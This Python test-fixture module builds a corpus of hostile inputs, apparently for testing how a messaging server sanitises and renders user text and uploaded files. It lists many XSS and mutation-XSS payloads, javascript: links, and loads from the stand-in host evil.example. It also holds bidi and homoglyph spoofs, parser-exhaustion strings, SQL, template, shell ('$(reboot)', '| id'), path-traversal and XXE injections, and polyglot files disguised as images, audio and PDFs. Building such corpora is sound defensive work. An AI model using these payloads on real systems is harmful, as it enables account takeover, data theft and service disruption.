"""Texts and files that nobody should send: each with a name, and what it is after.

Those with script call `canary()`, or would leave for evil.example; whoever shows them listens for
both. They come from the families of OWASP's filter evasion list, of what was found in servers of
this kind (mutation through sanitisers, Markdown turned to links, names and topics put in as HTML),
and of Unicode's own reports on security and on bidirectional text (UTS 36, UAX 9).
"""

import io
import wave
from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Hostile:
    """One text: its name, what it attacks, and the text."""

    name: str
    attacks: str
    text: str


TAGS = (
    "<script>canary()</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>canary()</sCrIpT>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<img src=x onerror=canary()>",
    "<img src=x onerror='canary()'//>",
    "<img/src=x/onerror=canary()>",
    "<img src=`x` onerror=canary()>",
    "<img src=//evil.example/i>",
    "<image href=x onerror=canary()>",
    "<svg onload=canary()>",
    "<svg/onload=canary()//",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=canary()>#x'/></svg>",
    "<svg><a xlink:href='javascript:canary()'><text y=20>go</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    "<math><a xlink:href=javascript:canary()>go</a></math>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
    "<iframe src=javascript:canary()></iframe>",
    "<iframe srcdoc='<script>top.canary()</script>'>",
    "<object data=javascript:canary()></object>",
    "<embed src=//evil.example/e>",
    "<body onload=canary()>",
    "<details open ontoggle=canary()>x</details>",
    "<video><source onerror=canary()></video>",
    "<audio src=x onerror=canary()>",
    "<input autofocus onfocus=canary()>",
    "<select autofocus onfocus=canary()>",
    "<marquee onstart=canary()>x</marquee>",
    "<div style='animation:x' onanimationstart=canary()>",
    "<p style=background:url(//evil.example/b)>x</p>",
    "<link rel=stylesheet href=//evil.example/c>",
    "<style>@import '//evil.example/s';*{color:red}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<template><script>canary()</script></template>",
    "<a href=javascript:canary()>go</a>",
    "<form action=javascript:canary()><button>go</button></form>",
    "<button popovertarget=x onbeforetoggle=canary()>go</button><p popover id=x>x</p>",
    "</textarea><script>canary()</script>",
    "</title><script>canary()</script>",
    "</script><script>canary()</script>",
    "--><script>canary()</script>",
    "]]><svg onload=canary()>",
    '"><img src=x onerror=canary()>',
    "'><img src=x onerror=canary()>",
    '" onmouseover=canary() x="',
    "' autofocus onfocus=canary() x='",
    "`-canary()-`",
    "';canary();//",
    '\\";canary();//',
    "&lt;img src=x onerror=canary()&gt;",
    "&#60;img src=x onerror=canary()&#62;",
    "\\u003cimg src=x onerror=canary()\\u003e",
    "%3Cimg src=x onerror=canary()%3E",
    "\uff1cimg src=x onerror=canary()\uff1e",
    "<img src=x\x0conerror=canary()>",
    "<div id=app data-preact><img name=getElementById></div>",
    "<a id=location href=//evil.example>",
)
WRAPPED = {
    "alone": "{}",
    "in strong words": "**{}** _{}_",
    "in code": "```html\n{}\n```\n`{}`",
    "in a quote and a list": "> {}\n\n- {}\n1. {}",
}
LINKS = (
    "[go](javascript:canary())",
    "[go](JaVaScRiPt:canary())",
    "[go](java\tscript:canary())",
    "[go](&#106;avascript:canary())",
    "[go](javascript&colon;canary())",
    "[go](\x01javascript:canary())",
    "[go](vbscript:canary())",
    "<javascript:canary()>",
    "[go](data:text/html,<script>opener.canary()</script>)",
    "[go](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:canary())",
    "![x](//evil.example/i.png)",
    "![x](https://evil.example/i.png)",
    "[go](file:///etc/passwd)",
    "[go](//evil.example)",
    "[go](\\\\evil.example)",
    "[x]: javascript:canary()\n[x]",
    "[go](https://a'onmouseover=canary()'b)",
    '[go](https://a "x" onclick=canary())',
    'https://evil.example/"onmouseover=canary()',
    "https://evil.example@127.0.0.1/",
    "https://\u0440\u0430ypal.example/",
    "https://evil.example/\u202egnp.exe",
    "[https://bank.example](https://evil.example/)",
    "[<img src=x onerror=canary()>](https://evil.example/)",
    "[a](<javascript:canary()>)",
    "[go](blob:canary())",
    "[go](filesystem:x)",
    "[go](intent://x#Intent;end)",
    "mailto:a@b?cc=c%0d",
)
SIGNS = (
    "\u202egnp.exe",
    "\u2066\u2067\u2068 never closed",
    "\u2069\u202c closed, never opened",
    "\u200b\u200c\u200d\u2060\ufeff",
    "a\u200bd\u200bm\u200bi\u200bn",
    "\u00ad" * 200,
    "Z\u0351\u036b\u0343" * 60,
    "a" + "\u0301" * 900,
    "\ufdfd" * 200,
    "\U0001242b" * 50,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 100,
    "\u2764\ufe0f\u200d" * 200,
    "\U0001f3f4\U000e0067\U000e0062\U000e007f" * 50,
    "\U0001f1eb" * 301,
    "\u0440\u0430ypal",
    "\u0391dmin",
    "\uff41\uff44\uff4d\uff49\uff4e",
    "\U000e0001\U000e0041",
    "\u2028\u2029\u0085",
    "\ue000\uf8ff\U0010fffd",
    "\ufffe\uffff",
    "\u0627\u0644\u0633\u0644\u0627\u0645 <b>a</b>",
    "\u1160\u3164\uffa0",
    "\u0e47" * 300,
    "\u06dd\u0601 1",
    "\r\n\r\n\t\v",
    "x" * 3_900,
    "\u2003" * 500,
)
NESTED = (
    "*" * 3_000,
    "_" * 3_000,
    "[" * 3_000,
    "![" * 1_500,
    "> " * 1_500 + "x",
    "`" * 2_999,
    "[](" * 1_200,
    "**a " * 900,
    "||" * 1_500,
    "~~a" * 1_200,
    "<" * 3_000,
    "&" * 3_000,
    "\n".join("  " * n + "- x" for n in range(80)),
    "[a](b" * 700,
    "<!--" * 900,
    "]" * 3_000,
    "a**b" * 900,
    "*a_ " * 900,
    "|a" * 1_500 + "\n" + "|-" * 1_500,
    "@" * 3_000,
    "#" * 3_000,
    "http://" * 500,
    "www." * 900,
    "a@" * 1_400,
    ":a:" * 1_200,
    "(" * 3_000,
    "\\" * 3_000,
    "1. " * 900,
    "a" * 1_900 + "!" * 1_900,
    "<@" * 1_400,
    "<@&1>" * 600,
    "<#1>" * 700,
    "```" * 900,
    "$$" * 1_500,
)
INJECTED = (
    "{{7*7}}",
    "{{constructor.constructor('canary()')()}}",
    "${canary()}",
    "#{canary()}",
    "<%= 7*7 %>",
    "{% import os %}",
    "{0.__class__.__mro__}",
    "%s%n%x",
    "%(password)s",
    "'; DROP TABLE messages; --",
    "' OR '1'='1",
    '" OR ""="',
    "1); DELETE FROM accounts",
    '* NEAR(a b) OR "',
    "a* OR NOT (",
    "%_%_%",
    "x\r\nSet-Cookie: a=b",
    "x%0d%0aLocation:%20//evil.example",
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "%2e%2e%2f%2e%2e%2f",
    "file.txt%00.png",
    "CON",
    "aux.h",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "$(reboot)",
    "`reboot`",
    "; ls",
    "| id",
    "&& id",
    "(a+)+$",
    "^(a|a?)+$",
    "([a-z]+.)+[A-Z]",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "NaN",
    "undefined",
    "null",
    "-0",
    "1e999",
    "\u0661\u0662",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "\x1b[2J\x1b]0;x\x07",
    '{"a": {"$gt": ""}}',
    "/match x",
    "/me <img src=x onerror=canary()>",
    "@everyone @here",
    "<@1>",
    "<#1>",
    "<:a:1>",
    "salon_s=x; a=b",
)


def texts() -> Iterator[Hostile]:
    """Every text, the same ones in the same order each time."""
    for number, tag in enumerate(TAGS):
        for where, around in WRAPPED.items():
            text = around.replace("{}", tag)
            yield Hostile(f"tag {number} {where}", "a page that takes text for markup", text)
    families = (
        ("link", "who follows a link, or is shown it", LINKS),
        ("sign", "eyes, and code that counts or compares", SIGNS),
        ("nest", "time and depth of whatever parses", NESTED),
        ("inject", "whoever builds a command, a query or a file from text", INJECTED),
    )
    for family, attacks, given in families:
        for number, text in enumerate(given):
            yield Hostile(f"{family} {number}", attacks, text)


SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'><script>canary()</script></svg>"
HTML = b"<!doctype html><script>(opener||parent).canary()</script><img src=//evil.example/f>"


def sound_of(samples: bytes) -> bytes:
    """Return a sound that plays, and whose samples are something else as well."""
    out = io.BytesIO()
    with wave.open(out, "wb") as file:
        file.setparams((1, 2, 8_000, 0, "NONE", "not compressed"))
        file.writeframes(samples.ljust(8_000))
    return out.getvalue()


FILES = {
    "drawing.svg": SVG,
    "page.html": HTML,
    "page.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>canary()</script></html>",
    "picture.png": HTML,
    "cat.gif": b"GIF89a/*" + HTML + b"*/=1;canary()",
    "sound.wav": sound_of(HTML),
    "sound.mp3": b"ID3\x04\x00\x00\x00\x00\x00\x21TIT2" + HTML,
    "film.mp4": b"\x00\x00\x00\x18ftypmp42" + HTML,
    "paper.pdf": b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(canary())>>>>endobj" + HTML,
    "code.js": b"canary()",
    "sheet.css": b"@import '//evil.example/s';",
    "feed.xml": b"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>canary()"
    b"</x:script>",
    "archive.zip": b"PK\x03\x04" + HTML,
    "<img src=x onerror=canary()>.txt": b"a",
    "\u202egnp.exe": b"MZ",
    "..%2f..%2fetc%2fpasswd": b"a",
    'a"onmouseover=canary() b.html': HTML,
}
